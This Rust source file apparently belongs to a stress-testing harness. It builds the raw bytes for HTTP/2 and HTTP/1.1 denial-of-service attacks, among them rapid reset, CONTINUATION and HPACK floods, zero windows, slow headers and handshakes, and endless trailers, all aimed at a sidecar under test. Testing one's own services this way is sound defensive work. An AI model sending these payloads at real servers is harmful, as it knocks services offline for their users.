//! Which bytes does an attacker send?

use anyhow::Context as _;
use http::HeaderMap;
use kiro_hostile::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, field, frame, preface, preface_with, request_for,
};
use kiro_hostile::{Flood, Pieces};

use super::attacks::Attack;
use crate::identity::CALLEE;

/// What begins a connection, and what follows for as long as it is let.
pub(crate) struct Script {
    /// Sent at once.
    pub(crate) opening: Vec<u8>,
    /// Sent at the attack's rate.
    pub(crate) pieces: Pieces,
}

/// Chunks and frames of one body, headers of one head: more than any sidecar is to take, and no more than a stream's window.
const PIECES: usize = 60_000;
/// A `SETTINGS_INITIAL_WINDOW_SIZE` of nothing.
const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];
/// Bytes of a head that stays below what is allowed.
const LONG_FIELD_BYTES: usize = 60_000;
/// The beginning of a ClientHello.
const HELLO: [u8; 6] = [22, 3, 1, 2, 0, 1];

/// What a request's head has beside its first line: signatures, where the door asks for them.
pub(crate) type Signed = HeaderMap;

/// The script of an attack; `signed` is what the head of its one request carries.
pub(crate) fn script(attack: Attack, signed: &Signed) -> anyhow::Result<Script> {
    let flood = |name: &str| -> anyhow::Result<Script> {
        let flood = Flood::named(name).with_context(|| format!("there is no flood named {name}"))?;
        Ok(Script { opening: preface(), pieces: (flood.pieces)(CALLEE) })
    };
    let silent = |opening: &[u8]| Script { opening: opening.to_vec(), pieces: Box::new(std::iter::empty()) };
    let script = match attack {
        Attack::RapidReset => flood("rapid reset")?,
        Attack::MadeToReset => flood("made to reset")?,
        Attack::Continuation => flood("CONTINUATION")?,
        Attack::HpackBomb => flood("HPACK bomb")?,
        Attack::Ping => flood("PING")?,
        Attack::Settings => flood("SETTINGS")?,
        Attack::EmptyData => Script {
            opening: posting(signed),
            pieces: Box::new(std::iter::repeat_n(frame(DATA, 0, 1, &[]), PIECES)),
        },
        Attack::ByteBody => Script {
            opening: posting(signed),
            pieces: Box::new(std::iter::repeat_n(frame(DATA, 0, 1, b"x"), PIECES)),
        },
        Attack::EndlessTrailers => endless_trailers(signed),
        Attack::EndlessTrailersH1 => endless_trailers_h1(),
        Attack::ZeroWindows => silent(&preface_with(&NO_WINDOW)),
        Attack::SlowHeads => Script {
            opening: slow_head(LONG_FIELD_BYTES),
            pieces: Box::new(std::iter::repeat_n(b"a".to_vec(), PIECES)),
        },
        Attack::SlowPrefaces => silent(b"PRI * HT"),
        Attack::SlowHandshakes => silent(&HELLO),
        Attack::NoTls => silent(format!("GET / HTTP/1.1\r\nHost: {CALLEE}\r\n\r\n").as_bytes()),
        Attack::NoLeaf => silent(&[]),
    };
    Ok(script)
}

/// A head that does not end.
pub(crate) fn slow_head(bytes: usize) -> Vec<u8> {
    let mut head = format!("GET / HTTP/1.1\r\nHost: {CALLEE}\r\nx: ").into_bytes();
    head.extend(std::iter::repeat_n(b'a', bytes));
    head
}

/// A request for a large answer.
pub(crate) fn large_get(stream: u32, signed: &Signed) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | END_STREAM, stream, &head("GET", LARGE, signed))
}

/// The path of a large answer.
pub(crate) const LARGE: &str = "/1m";
/// The path of a body.
pub(crate) const POST: &str = "/post";

fn head(method: &str, path: &str, signed: &Signed) -> Vec<u8> {
    let mut block = request_for(method, CALLEE, path);
    for (name, value) in signed {
        block.extend(field(name.as_str(), value.as_bytes()));
    }
    block
}

/// A request whose body follows.
fn posting(signed: &Signed) -> Vec<u8> {
    [preface(), frame(HEADERS, END_HEADERS, 1, &head("POST", POST, signed))].concat()
}

fn endless_trailers(signed: &Signed) -> Script {
    let mut opening = posting(signed);
    opening.extend(frame(DATA, 0, 1, b"hello"));
    opening.extend(frame(HEADERS, END_STREAM, 1, &field("x", b"a")));
    let more = frame(CONTINUATION, 0, 1, &field("x", &[b'a'; 100]));
    Script { opening, pieces: Box::new(std::iter::repeat_n(more, PIECES)) }
}

fn endless_trailers_h1() -> Script {
    let opening = format!(
        "POST {POST} HTTP/1.1\r\nHost: {CALLEE}\r\nTransfer-Encoding: chunked\r\nTrailer: x\r\n\r\n5\r\nhello\r\n0\r\n"
    );
    let line = format!("x: {}\r\n", "a".repeat(100)).into_bytes();
    Script { opening: opening.into_bytes(), pieces: Box::new(std::iter::repeat_n(line, PIECES)) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_attack_has_its_script() {
        for attack in Attack::ALL {
            script(*attack, &Signed::new()).unwrap();
        }
    }
}
